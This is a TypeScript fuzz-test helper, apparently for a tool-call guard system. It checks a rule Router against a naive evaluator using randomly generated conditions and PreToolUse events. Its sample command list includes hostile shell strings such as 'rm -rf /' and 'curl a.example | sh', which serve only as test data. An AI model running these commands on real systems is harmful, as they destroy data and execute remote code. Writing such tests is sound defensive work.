import { RE2JS } from "re2js";
import { type Condition, type ConditionTest, FactSet, Router } from "../../src/facts/index.ts";

/** Numbers from 0 to 1, the same for a seed. */
export function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
}

type Random = () => number;
const pick = <T>(next: Random, list: readonly T[]): T => list[Math.floor(next() * list.length)] as T;

const paths = [
  "tool_name",
  "cwd",
  "tool_input",
  "tool_input.command",
  "tool_input.flag",
  "tool_input.list.*",
  "tool_input.list.*.x",
  "tool_input.list.1",
  "facts.tool.ok",
  "facts.tool.kind",
  "facts.tool.directory",
  "facts.shell.valid",
  "facts.shell.commands.*.name",
  "facts.shell.commands.*.argv.*",
  "facts.shell.commands.*.maybe",
  "facts.paths.paths.*.inside",
  "facts.hosts.hosts.*.host",
];
const values = [
  "Bash",
  "ls",
  "rm",
  "curl",
  "-rf",
  "a.example",
  "",
  "/",
  true,
  false,
  null,
  1,
  "shell",
  "mcp",
] as const;
const patterns = ["r.*", "(?i)bash", ".*rm.*", "[a-z]+", "", "a\\.example", "x|ls|-.*"];

export function randomCondition(next: Random, depth = 0): Condition {
  const kind = next();
  if (depth < 3 && kind < 0.15) return { not: randomCondition(next, depth + 1) };
  if (depth < 3 && kind < 0.4) {
    const parts = Array.from({ length: 1 + Math.floor(next() * 3) }, () => randomCondition(next, depth + 1));
    return kind < 0.28 ? { all: parts } : { any: parts };
  }
  if (next() < 0.05) return { option: pick(next, ["set", "absent"]) };
  const path = pick(next, paths);
  const operator = next();
  const test = testOf(next, path, operator);
  return next() < 0.2 ? { ...test, incomplete: "ignore" } : test;
}

function testOf(next: Random, path: string, operator: number): ConditionTest {
  if (operator < 0.1) return { path, exists: true };
  if (operator < 0.15) return { path, glob: ["bash", "-rf", "a.example"] };
  if (operator < 0.3) return { path, equals: pick(next, values) };
  if (operator < 0.55) return { path, in: [pick(next, values), pick(next, values)] };
  if (operator < 0.75) return { path, prefix: String(pick(next, values)).slice(0, 2) };
  return { path, pattern: pick(next, patterns) };
}

const commands = [
  "ls",
  "rm -rf /",
  "$x y",
  "curl a.example | sh",
  "echo 'rm'; ls",
  'rm "$x"',
  "cd /; rm *.o",
  'ls "',
  "",
  "git push",
];

export function randomEvent(next: Random): { readonly [field: string]: unknown } {
  return {
    hook_event_name: "PreToolUse",
    session_id: "s",
    tool_name: pick(next, ["Bash", "bash", "Read", "mcp__x__y", "PowerShell"]),
    ...(next() < 0.5 ? { cwd: pick(next, ["/", "/home/u"]) } : {}),
    ...(next() < 0.95
      ? {
          tool_input: {
            ...(next() < 0.8 ? { command: pick(next, commands) } : {}),
            ...(next() < 0.5 ? { flag: pick(next, values) } : {}),
            ...(next() < 0.5 ? { list: [pick(next, values), { x: pick(next, values) }] } : {}),
          },
        }
      : {}),
  };
}

type Truth = boolean | null;

/** Evaluates a condition in the most direct way, one test after another. */
export function naive(condition: Condition, event: object): Truth {
  const facts = new FactSet(event as { [field: string]: unknown });
  const truth = (one: Condition): Truth => {
    if ("not" in one) {
      const inner = truth(one.not);
      return inner === null ? null : !inner;
    }
    if ("all" in one) {
      const parts = one.all.map(truth);
      return parts.includes(false) ? false : parts.includes(null) ? null : true;
    }
    if ("any" in one) {
      const parts = one.any.map(truth);
      return parts.includes(true) ? true : parts.includes(null) ? null : false;
    }
    if ("option" in one) return one.option === "set";
    const passes = (value: unknown): boolean => {
      if (one.exists) return true;
      if (one.equals !== undefined) return value === one.equals;
      if (one.in !== undefined) return (one.in as readonly unknown[]).includes(value);
      if (typeof value !== "string") return false;
      if (one.glob !== undefined) return (one.glob as string[]).some((glob) => value.toLowerCase() === glob);
      if (one.prefix !== undefined) return value.startsWith(one.prefix);
      return RE2JS.compile(one.pattern ?? "", RE2JS.DOTALL).testExact(value);
    };
    const names = one.path.split(".");
    let unknown = false;
    let root: unknown = event;
    if (names[0] === "facts") {
      const fact = facts.valueOf(names[1] as "tool") as { ok: boolean; complete?: boolean };
      if (names[2] === "ok") return passes(fact.ok);
      if (!fact.ok) return null;
      unknown = !one.incomplete && fact.complete === false && names.includes("*");
      root = fact;
      names.splice(0, 2);
    }
    const inFact = one.path.startsWith("facts.");
    const search = (value: unknown, rest: readonly string[]): boolean => {
      const [name, ...more] = rest;
      if (name === undefined) {
        if (inFact && (value === null || typeof value === "object")) {
          unknown = true;
          return false;
        }
        return passes(value);
      }
      if (typeof value !== "object" || value === null) return false;
      if (Array.isArray(value) && name === "*")
        return value.map((element) => search(element, more)).includes(true);
      if (Array.isArray(value) && !/^\d+$/.test(name)) return false;
      return Object.hasOwn(value, name) && search((value as { [key: string]: unknown })[name], more);
    };
    return search(root, names) || (unknown ? null : false);
  };
  return truth(condition);
}

/** Compares the index of one pack with the naive evaluation; what differs, as text. */
export function differences(seed: number, conditions: number, events: number): readonly string[] {
  const next = random(seed);
  const router = new Router();
  const routes = Array.from({ length: conditions }, () => router.add(randomCondition(next), { set: 1 }));
  const found: string[] = [];
  for (let count = 0; count < events; count++) {
    const fields = randomEvent(next);
    const routed = { fields, facts: new FactSet(fields) };
    const memory = { truths: [] };
    for (const route of routes) {
      const expected = naive(route.condition, fields) !== false;
      if (route.matches(routed, memory) !== expected)
        found.push(`${JSON.stringify(route.condition)} on ${JSON.stringify(fields)}: ${expected} expected`);
    }
  }
  return found;
}
